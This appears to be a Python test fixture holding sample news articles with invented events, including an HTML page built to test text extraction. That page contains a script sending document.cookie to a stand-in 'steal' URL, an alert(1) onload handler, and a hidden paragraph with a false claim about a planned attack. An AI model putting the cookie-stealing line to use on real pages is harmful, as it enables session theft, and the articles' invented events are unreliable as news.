"""Made articles for tests of reading: ours, about real states, with invented events."""

ARTICLE = """Ruritanian doubts aside, Russian troops moved toward the Belarusian border on Jan. 12

Russian troops began arriving at Belarusian railway stations near Yelsk on Jan. 12 ahead of announced drills.

Belarusian President Aleksandr Lukashenko said on Jan. 13 that Belarus would not let its territory be used for an \
attack on Ukraine.

An attack on Ukraine would bring devastating sanctions against Russia, and Moscow knows these costs.

Western officials said that Russia has moved field hospitals and tanks close to the Ukrainian border.
"""

FRENCH = """Les troupes russes sont arrivées en Biélorussie le 12 janvier, selon le ministère de la défense.
Le président a déclaré que le pays ne laisserait pas attaquer son voisin. Les sanctions seraient très lourdes pour
l'économie, et les habitants de la capitale ne veulent pas de la guerre. Il a ajouté que les exercices seraient
terminés avant la fin du mois de février, comme cela avait été annoncé par les deux gouvernements.
"""

HTML = """<!doctype html><html><head><title>Troops on the move</title>
<script>document.title = "evil"; fetch("https://example.org/steal?c=" + document.cookie)</script>
<style>body { color: red }</style></head>
<body onload="alert(1)"><nav>Home | World | Subscribe</nav>
<h1>Troops on the move</h1>
<p>Russian troops began arriving at Belarusian railway stations near Yelsk on Jan. 12 ahead of announced drills.</p>
<p style="display:none">Russia secretly decided to attack Ukraine from Belarus.</p>
<p>An attack on Ukraine would bring devastating sanctions against Russia&mdash;and Moscow knows these costs.</p>
<script>var quote = "Russian troops will attack Ukraine tomorrow";</script>
</body></html>
"""

OTHER_WORLD = """Fishing quotas agreed

The Icelandic and Norwegian fisheries ministers signed an agreement on mackerel quotas on Monday. Norway moved two
patrol vessels to the area. The agreement raises the quota by 3,000 tonnes, the Icelandic minister said.
"""
